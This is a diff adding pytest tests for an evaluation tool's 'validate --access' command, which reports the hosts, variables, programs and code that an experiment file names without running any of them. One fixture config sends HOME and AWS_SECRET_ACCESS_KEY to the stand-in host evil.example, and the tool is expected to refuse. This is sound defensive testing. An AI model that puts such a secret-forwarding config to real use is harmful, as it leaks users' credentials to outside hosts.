@@ -276,3 +276,70 @@ def test_the_value_of_a_secret_in_place_of_its_name_is_not_repeated(folder: Path
     assert "sk-live" not in reported
     assert "do not allow TOKEN" in call("secrets", "remove", "TOKEN", code=1).output
     assert "built-in one cannot be removed" in call("secrets", "remove", "OPENAI_API_KEY", code=1).output
+
+
+THEIRS = """
+name: theirs
+dataset: {path: rows.jsonl, input: text, expected: answer, schema: models.py:Row}
+tasks:
+  bot: {kind: service, url: "https://evil.example/a?x=${HOME}", headers: {X: "${AWS_SECRET_ACCESS_KEY}", Y: a}}
+  near: {kind: service, url: "http://me:word@127.0.0.1:8000/"}
+  gpt: {kind: instruct, model: {url: https://api.openai.com/v1, name: gpt, api_key: OPENAI_API_KEY}}
+  program: {kind: program, command: touch executed --api-key sk-123, folder: bin, env: {MODE: fast}}
+  mine: app.py:answer
+scorers: {same: exact_match, judge: app.py:grade}
+metrics: [accuracy, {function: "metrics.py:top", scorer: same}]
+run: {transient: [theirs.Busy, TransientError]}
+"""
+
+
+def test_validate_lists_hosts_variables_programs_and_code_without_executing_any(folder: Path) -> None:
+    for name in ("app", "models", "metrics", "theirs"):
+        (folder / f"{name}.py").write_text("import pathlib\npathlib.Path('executed').touch()\n")
+    (folder / "theirs.yaml").write_text(THEIRS)
+    access = json.loads(call("validate", "theirs.yaml", "--access", "--json").stdout)["access"]
+    unsent = "is not sent to evil.example, which you have not allowed; if you trust this host: evaluand secrets allow"
+    assert access == {
+        "hosts": [
+            {
+                "where": "tasks.bot",
+                "host": "https://evil.example",
+                "variables": ["AWS_SECRET_ACCESS_KEY", "HOME"],
+                "refused": {
+                    "AWS_SECRET_ACCESS_KEY": f"AWS_SECRET_ACCESS_KEY {unsent} AWS_SECRET_ACCESS_KEY evil.example",
+                    "HOME": f"HOME {unsent} HOME evil.example",
+                },
+            },
+            {"where": "tasks.near", "host": "http://127.0.0.1:8000", "variables": [], "refused": {}},
+            {"where": "tasks.gpt", "host": "https://api.openai.com", "variables": ["OPENAI_API_KEY"], "refused": {}},
+        ],
+        "programs": [
+            {
+                "where": "tasks.program",
+                "command": ["touch", "executed", "--api-key", "***"],
+                "folder": "bin",
+                "environment": ["MODE"],
+            }
+        ],
+        "code": [
+            {"module": "app.py", "where": ["tasks.mine", "scorers.judge"]},
+            {"module": "metrics.py", "where": ["metrics.1"]},
+            {"module": "models.py", "where": ["dataset"]},
+            {"module": "theirs", "where": ["run.transient"]},
+        ],
+    }
+    assert not (folder / "executed").exists()
+    shown = call("validate", "theirs.yaml", "--access").stdout
+    assert "host   tasks.bot: https://evil.example would receive AWS_SECRET_ACCESS_KEY, which you have not" in shown
+    assert "start  tasks.program: touch executed --api-key '***' in bin, with all environment variables" in shown
+    assert "import app.py: tasks.mine, scorers.judge" in shown
+    assert "word" not in shown
+    listed = json.loads(call("validate", "theirs.yaml", "--json", code=1).stdout)
+    assert (listed["access"], bool(listed["faults"])) == (access, True)
+
+
+def test_access_of_a_file_that_names_none_and_of_one_with_faults(folder: Path) -> None:
+    (folder / "plain.yaml").write_text(EXPERIMENT.format(task="{kind: recorded, path: a.jsonl}"))
+    assert call("validate", "plain.yaml", "--access").stdout == "plain.yaml names no host, no program and no code\n"
+    (folder / "wrong.yaml").write_text(EXPERIMENT.format(task="{kind: program}") + "metric: 3\n")
+    assert "wrong.yaml:8" in call("validate", "wrong.yaml", "--access", code=1).stdout
